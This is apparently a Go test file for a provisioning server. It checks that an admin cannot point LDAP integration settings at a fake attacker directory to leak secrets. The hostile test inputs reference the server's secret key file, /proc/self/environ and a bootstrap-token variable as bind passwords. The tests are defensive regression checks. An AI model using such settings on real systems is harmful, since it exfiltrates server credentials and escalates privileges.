package web

import (
	"context"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/provisiond/provisiond/directory"
	"github.com/provisiond/provisiond/ldapsync/ldaptest"
	"github.com/provisiond/provisiond/store"
)

// An admin (not owner) must not make the server read its own files or
// environment and bind with them to a directory the admin controls: that
// would hand them the secret key or the bootstrap token, and with it the
// owner's powers. The fake directory stands for the admin's host.
func TestLDAPSettingsCannotExfiltrateServerSecretsAPI(t *testing.T) {
	keyFile, keyValue, tokenVar, tokenValue := serverSecrets(t)
	eachConsoleServer(t, nil, func(t *testing.T, ts *httptest.Server, s *Server) {
		ctx := context.Background()
		evil := ldaptest.NewBindRecorder(t)
		api := newAdminAPI(t, ts, s, "admin")
		refs := map[string]string{
			"secret key file":          "bindPasswordFile: " + keyFile,
			"process environment":      "bindPasswordFile: /proc/self/environ",
			"bootstrap token variable": "bindPasswordEnv: " + tokenVar,
		}
		// Through create, then through a change of an integration that binds
		// anonymously today.
		anon := `{"url":"` + evil.URL() + `","users":{"baseDN":"ou=people,dc=example,dc=org"}}`
		in := &store.Integration{Name: "anonymous", Kind: "ldap", LDAPConfig: &anon}
		if err := s.Store.CreateIntegration(ctx, in); err != nil {
			t.Fatal(err)
		}
		for name, ref := range refs {
			code, out := api.call("POST", "/api/v1/integrations", map[string]any{"name": "evil " + strings.Fields(name)[0],
				"kind": "ldap", "ldapConfig": ldapYAML(evil.URL(), ref)})
			if code == 201 {
				api.call("POST", "/api/v1/integrations/"+out["id"].(string)+"/sync", nil)
				waitSyncsDone(t, s, out["id"].(string))
			}
			key := strings.TrimSuffix(strings.Fields(ref)[0], ":")
			if e, _ := out["error"].(map[string]any); code != 400 || !strings.Contains(e["message"].(string), key) {
				t.Errorf("create with %s: %d %v", name, code, out)
			}
			code, out = api.call("PATCH", "/api/v1/integrations/"+in.ID, map[string]any{"ldapConfig": ldapYAML(evil.URL(), ref)})
			if code == 200 {
				api.call("POST", "/api/v1/integrations/"+in.ID+"/sync", nil)
				waitSyncsDone(t, s, in.ID)
			}
			if code != 400 {
				t.Errorf("change to %s: %d %v", name, code, out)
			}
		}
		for _, pw := range evil.Passwords() {
			if strings.Contains(pw, keyValue) || strings.Contains(pw, tokenValue) || strings.Contains(pw, "PATH=") {
				t.Errorf("the admin's directory received a server secret: %.40q...", pw)
			}
		}
		if b := evil.Binds(); len(b) != 0 {
			t.Errorf("the admin's directory received %d binds", len(b))
		}
		ins, _ := s.Store.Integrations(ctx)
		if c, err := directory.ConfigOf(&ins[0]); len(ins) != 1 || err != nil || c.BindDN != "" || c.BindPasswordFile != "" {
			t.Errorf("integrations after refused writes: %d, first %+v", len(ins), c)
		}
	})
}

// A password the operator configured (a file, as `integration create
// --ldap-bind-password-file` stores it) must not follow a url, bind DN or
// TLS change made through the API: the change must carry the password again.
func TestLDAPPasswordDoesNotFollowRedirectedURLAPI(t *testing.T) {
	eachConsoleServer(t, nil, func(t *testing.T, ts *httptest.Server, s *Server) {
		legit, evil := ldaptest.NewBindRecorder(t), ldaptest.NewBindRecorder(t)
		in, pwFile := seedLDAPIntegration(t, s, legit.URL(), "directory-password")
		api := newAdminAPI(t, ts, s, "admin")
		ref := "bindPasswordFile: " + pwFile
		for name, doc := range map[string]string{
			"url":                ldapYAML(evil.URL(), ref),
			"bind DN":            strings.Replace(ldapYAML(legit.URL(), ref), "cn=syncbot", "cn=other", 1),
			"startTLS":           ldapYAML(legit.URL(), ref, "startTLS: true"),
			"insecureSkipVerify": ldapYAML(legit.URL(), ref, "insecureSkipVerify: true"),
		} {
			code, out := api.call("PATCH", "/api/v1/integrations/"+in.ID, map[string]any{"ldapConfig": doc})
			if code == 200 {
				api.call("POST", "/api/v1/integrations/"+in.ID+"/sync", nil)
				waitSyncsDone(t, s, in.ID)
			}
			if e, _ := out["error"].(map[string]any); code != 400 || !strings.Contains(e["message"].(string), "ldapBindPassword") {
				t.Errorf("%s changed without the password: %d %v", name, code, out)
			}
		}
		if pw := evil.Passwords(); len(pw) != 0 {
			t.Fatalf("the operator's password followed the redirected url: %q", pw)
		}
		// The operator's settings still work, and a change that does not
		// touch where the password goes needs no password.
		code, out := api.call("PATCH", "/api/v1/integrations/"+in.ID, map[string]any{"ldapConfig": ldapYAML(legit.URL(), ref, "interval: 1h")})
		if code != 200 {
			t.Fatalf("harmless change: %d %v", code, out)
		}
		api.call("POST", "/api/v1/integrations/"+in.ID+"/sync", nil)
		waitSyncsDone(t, s, in.ID)
		if pw := legit.WaitForBinds(t, 1); pw[0].Password != "directory-password" {
			t.Fatalf("operator's directory got %+v", pw)
		}
	})
}
